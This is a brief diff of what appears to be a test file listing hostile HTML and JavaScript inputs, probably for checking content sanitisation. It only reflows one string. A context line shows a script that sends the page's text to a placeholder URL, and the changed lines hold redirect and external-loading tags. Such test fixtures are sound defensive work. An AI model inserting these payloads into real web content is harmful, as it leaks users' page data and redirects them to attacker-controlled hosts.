@@ -331,7 +331,8 @@ setTimeout(() => {{ location = '{_URL}?' + document.body.textContent }}, 100);
         "moves": {
             "text/html": f'<meta http-equiv="refresh" content="0;url={_URL}">'
             f'<base href="{_URL}"><script>1</script><link rel="stylesheet" href="{_URL}a.css">'
-            f'<script src="{_URL}a.js"></script><img src="{_URL}a.png"><style>@import "{_URL}"</style>'
+            f'<script src="{_URL}a.js"></script><img src="{_URL}a.png">'
+            f'<style>@import "{_URL}"</style>'
         },
     }
     project_cells = [
